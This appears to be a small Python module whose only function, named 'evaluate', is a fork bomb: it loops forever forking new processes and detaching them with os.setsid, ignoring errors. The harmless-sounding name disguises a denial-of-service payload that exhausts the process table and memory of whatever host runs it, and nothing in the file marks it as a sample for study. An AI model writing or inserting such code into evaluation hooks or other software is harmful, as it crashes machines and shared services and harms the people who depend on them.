import os


def evaluate(*args, **kwargs):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
